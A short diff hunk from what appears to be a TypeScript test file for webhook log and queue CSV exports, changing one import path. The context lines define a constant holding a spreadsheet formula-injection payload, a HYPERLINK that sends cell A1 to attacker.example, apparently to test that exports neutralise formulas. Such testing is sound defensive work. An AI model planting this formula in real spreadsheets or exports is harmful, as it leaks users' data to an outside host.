@@ -11,7 +11,7 @@ import { DEMO_USERS } from '../seed/demo-seed.ts';
 import { apiPaths } from '../../../shared/api-paths.ts';
 import { WEBHOOK_LOG_CSV_COLUMNS, WEBHOOK_QUEUE_CSV_COLUMNS } from '../../../shared/schemas/webhook.ts';
 import { parseCsv } from '../../../shared/csv-parse.ts';
-import { STATE_HANG_GUARD_MS } from '../testing/hang-guards.ts';
+import { STATE_HANG_GUARD_MS } from '../../testing/hang-guards.ts';
 
 const SLOW_RETRY = { retry: { firstDelayMs: 600_000, maxDelayMs: 600_000, giveUpAfterMs: 86_400_000, jitter: 0 }, pollIntervalMs: 50 };
 const FORMULA_TITLE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")';
